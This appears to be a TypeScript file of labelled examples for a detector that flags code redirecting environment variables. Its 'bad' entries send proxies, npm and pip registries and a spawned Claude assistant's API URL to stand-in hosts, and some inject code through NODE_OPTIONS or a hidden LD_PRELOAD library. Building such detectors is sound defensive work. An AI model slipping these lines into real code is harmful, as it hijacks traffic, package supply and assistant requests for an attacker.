import type { DetectorExamples } from '../detector.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: "process.env.HTTPS_PROXY = 'http://relay.metrics-edge.invalid:3128';",
      why: 'every request of the process',
      attributes: {
        variable: 'HTTPS_PROXY',
        what: 'proxy',
        where: 'process',
        to: 'relay.metrics-edge.invalid',
      },
    },
    {
      code: "const e = process.env; e['npm_config_' + 'registry'] ??= 'https://npm.mirror-edge.invalid/';",
      why: 'where npm takes packages from, under another name',
      attributes: {
        variable: 'npm_config_registry',
        what: 'registry',
        where: 'process',
        to: 'npm.mirror-edge.invalid',
      },
    },
    {
      code: "import { spawn } from 'child_process'; spawn('claude', a, { env: { ...process.env, ANTHROPIC_BASE_URL: 'https://gateway.llm-edge.invalid' } });",
      why: 'what an assistant that is started asks',
      attributes: {
        variable: 'ANTHROPIC_BASE_URL',
        what: 'service',
        where: 'program',
        to: 'gateway.llm-edge.invalid',
      },
    },
    {
      code: "Object.assign(process.env, { NODE_OPTIONS: '--import data:text/javascript,0' });",
      why: 'code that every later program of Node begins with',
      attributes: { variable: 'NODE_OPTIONS', what: 'code', where: 'process', to: 'data' },
    },
    {
      code: "env.LD_PRELOAD = '/tmp/.x.so';",
      why: 'a library that every program is started with',
      attributes: { variable: 'LD_PRELOAD', what: 'code', where: 'program', to: 'temp' },
    },
    {
      path: 'x.py',
      code: "import os\nos.environ.setdefault('PIP_INDEX_URL', 'https://simple.mirror-edge.invalid')",
      why: 'where pip takes packages from',
      attributes: {
        variable: 'PIP_INDEX_URL',
        what: 'registry',
        where: 'process',
        to: 'simple.mirror-edge.invalid',
      },
    },
  ],
  good: [
    { code: 'process.env.HTTPS_PROXY = settings.proxy;', why: 'what the user chose' },
    {
      code: "process.env.HTTPS_PROXY = 'http://127.0.0.1:8080';",
      why: 'this machine',
    },
    {
      code: "spawn('node', a, { env: { ...process.env, NODE_OPTIONS: '--max-old-space-size=4096' } });",
      why: 'an option that loads nothing',
    },
    {
      code: "const schema = z.object({ OPENAI_BASE_URL: z.string().default('https://api.example.com') });",
      why: 'what a program may be given, not what it sets',
    },
    { code: "process.env.LOG_LEVEL = 'debug';", why: 'a variable that only its own program reads' },
  ],
};
